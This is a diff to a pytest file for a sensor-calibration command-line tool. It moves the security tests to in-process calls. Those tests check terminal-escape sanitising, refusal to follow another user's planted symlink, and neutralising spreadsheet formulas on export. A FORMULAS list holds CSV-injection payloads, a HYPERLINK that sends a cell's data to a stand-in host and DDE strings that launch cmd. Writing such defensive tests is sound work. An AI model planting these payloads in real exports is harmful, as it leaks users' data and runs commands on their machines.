@@ -20,7 +20,7 @@ from pathlib import Path
 import numpy as np
 import pytest
 
-from hostile_child import limited, one_line
+from hostile_child import in_process, limited, one_line
 from imucalib.io import expansion
 
 
@@ -303,33 +303,33 @@ def session_files(tmp_path_factory):
     return d
 
 
-def test_an_unknown_fit_key_is_printed_escaped(session_files, tmp_path):
+def test_an_unknown_fit_key_is_printed_escaped(session_files, tmp_path, capsys):
     d = json.loads((session_files / "c.json").read_text(encoding="utf-8"))
     d.setdefault("fit", {})[f"key{CONTROLS}"] = 1
     path = tmp_path / "c.json"
     path.write_text(json.dumps(d), encoding="utf-8")
-    code, out, err, _ = limited("export", path)
+    code, out, err, _ = in_process(capsys, "export", path)
     assert code == 0 and _no_controls(out + err) and f"key{ESCAPED}" in err, err
 
 
-def test_header_names_in_the_missing_columns_error_are_escaped(tmp_path):
+def test_header_names_in_the_missing_columns_error_are_escaped(tmp_path, capsys):
     path = tmp_path / "h.csv"
     path.write_text(f"t,a{CONTROLS},ay,az,gx,gy,gz\n" + "0,1,2,3,4,5,6\n" * 20, encoding="utf-8")
-    code, out, err, _ = limited("calibrate", path, "--columns", "t,ax,ay,az,gx,gy,gz")
+    code, out, err, _ = in_process(capsys, "calibrate", path, "--columns", "t,ax,ay,az,gx,gy,gz")
     assert code == 2 and one_line(err) and _no_controls(out + err) and ESCAPED in err, err
 
 
-def test_a_file_name_is_printed_escaped(session_files, tmp_path):
-    code, out, err, _ = limited("calibrate", tmp_path / f"no{CONTROLS}.csv")
+def test_a_file_name_is_printed_escaped(session_files, tmp_path, capsys):
+    code, out, err, _ = in_process(capsys, "calibrate", tmp_path / f"no{CONTROLS}.csv")
     assert code == 2 and one_line(err) and _no_controls(out + err) and ESCAPED in err, err
 
 
-def test_store_list_prints_a_stored_error_escaped(tmp_path):
+def test_store_list_prints_a_stored_error_escaped(tmp_path, capsys):
     manifest = tmp_path / "m.csv"
     manifest.write_text(f"device,files\nA,{tmp_path}/gone{CONTROLS}.csv\n", encoding="utf-8")
-    code, out, err, _ = limited("batch", manifest, "--store", tmp_path / "s.sqlite")
+    code, out, err, _ = in_process(capsys, "batch", manifest, "--store", tmp_path / "s.sqlite")
     assert code == 3 and _no_controls(out + err), out + err
-    code, out, err, _ = limited("store", "list", "--store", tmp_path / "s.sqlite")
+    code, out, err, _ = in_process(capsys, "store", "list", "--store", tmp_path / "s.sqlite")
     assert code == 0 and _no_controls(out + err) and "gone\\x1b[2J" in out, out
 
 
@@ -363,7 +363,7 @@ FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", " =1+1", "\uff1d1+1"]
 
 
-def test_store_export_writes_formula_like_text_as_text(tmp_path):
+def test_store_export_writes_formula_like_text_as_text(tmp_path, capsys):
     import csv
 
     from imucalib.calibration import Calibration
@@ -376,7 +376,8 @@ def test_store_export_writes_formula_like_text_as_text(tmp_path):
                     "status": "ok", "verdict": "accepted", "calibration": cal,
                     "files": [{"path": f"=cmd|{k}.csv", "sha256": f"{k}", "bytes": 1}],
                     "source_sha256": f"sha-{k}", "settings": {"method": "tedaldi2014"}, "error": None})
-    code, out, err, _ = limited("store", "export", "--store", tmp_path / "s.sqlite", "-o", tmp_path / "x.csv")
+    code, out, err, _ = in_process(capsys, "store", "export", "--store", tmp_path / "s.sqlite",
+                                   "-o", tmp_path / "x.csv")
     assert code == 0, err
     with open(tmp_path / "x.csv", newline="", encoding="utf-8") as fh:
         rows = list(csv.DictReader(fh))
@@ -428,13 +429,13 @@ def test_a_recordings_header_is_still_named_in_its_error(tmp_path, session_files
 
 # ------------------------------------------------------------------ the store's dates
 @pytest.mark.parametrize("second", ["2024-05-01T00:00", "2024-05-01T00:00:00Z", "2024-05-01T02:00+02:00"])
-def test_one_moment_written_two_ways_is_one_record(tmp_path, session_files, second):
+def test_one_moment_written_two_ways_is_one_record(tmp_path, session_files, second, capsys):
     manifest = tmp_path / "m.csv"
     manifest.write_text(f"device,files,recorded_at\nA,{session_files / 's.csv'},2024-05-01\n", encoding="utf-8")
-    code, out, err, _ = limited("batch", manifest, "--store", tmp_path / "s.sqlite", "--json")
+    code, out, err, _ = in_process(capsys, "batch", manifest, "--store", tmp_path / "s.sqlite", "--json")
     assert code == 0 and json.loads(out)["calibrated"] == 1, err
     manifest.write_text(f"device,files,recorded_at\nA,{session_files / 's.csv'},{second}\n", encoding="utf-8")
-    code, out, err, _ = limited("batch", manifest, "--store", tmp_path / "s.sqlite", "--json")
+    code, out, err, _ = in_process(capsys, "batch", manifest, "--store", tmp_path / "s.sqlite", "--json")
     assert code == 0 and json.loads(out)["skipped"] == 1, out + err
     from imucalib.store import Store, instant_key
 
@@ -445,7 +446,7 @@ def test_one_moment_written_two_ways_is_one_record(tmp_path, session_files, seco
 
 # ------------------------------------------------------------------ -o and symbolic links in shared folders
 @pytest.mark.skipif(os.geteuid() != 0, reason="a symbolic link of another user is made with lchown (root)")
-def test_a_symlink_of_another_user_in_a_sticky_world_writable_folder_is_not_followed(tmp_path, session_files):
+def test_a_symlink_of_another_user_in_a_sticky_world_writable_folder_is_not_followed(tmp_path, session_files, capsys):
     shared = tmp_path / "tmp"
     shared.mkdir()
     os.chmod(shared, 0o1777)
@@ -454,11 +455,11 @@ def test_a_symlink_of_another_user_in_a_sticky_world_writable_folder_is_not_foll
     link = shared / "c.json"
     os.symlink(victim, link)
     os.lchown(link, 4242, 4242)  # planted by another user
-    code, out, err, _ = limited("calibrate", session_files / "s.csv", "-o", link)
+    code, out, err, _ = in_process(capsys, "calibrate", session_files / "s.csv", "-o", link)
     assert code == 2 and one_line(err) and "a symbolic link of another user" in err, err
     assert victim.read_text(encoding="utf-8") == "keep me" and link.is_symlink()
     os.lchown(link, os.geteuid(), os.getegid())  # the user's own link is followed, as the shell's > does
-    code, out, err, _ = limited("calibrate", session_files / "s.csv", "-o", link)
+    code, out, err, _ = in_process(capsys, "calibrate", session_files / "s.csv", "-o", link)
     assert code == 0 and victim.read_text(encoding="utf-8").startswith("{"), err
 
 
@@ -499,9 +500,9 @@ def test_a_column_named_twice_is_not_silently_the_first(tmp_path):
     assert np.all(rec.acc[:, 0] == 9)
 
 
-def test_microsecond_stamps_at_25_hz_declared_as_ms_name_the_unit_that_fixes_them(tmp_path):
+def test_microsecond_stamps_at_25_hz_declared_as_ms_name_the_unit_that_fixes_them(tmp_path, capsys):
     text = "\n".join(["t,ax,ay,az,gx,gy,gz"] + [f"{k * 40000},0,0,{1000 + k % 3},1,2,3" for k in range(300)]) + "\n"
     (tmp_path / "us.csv").write_text(text)
-    code, _, err, _ = limited("calibrate", tmp_path / "us.csv", "--time-unit", "ms")
+    code, _, err, _ = in_process(capsys, "calibrate", tmp_path / "us.csv", "--time-unit", "ms")
     last = err.strip().splitlines()[-1]
     assert code == 2 and "Traceback" not in err and "--time-unit us" in last and "25 Hz" in last
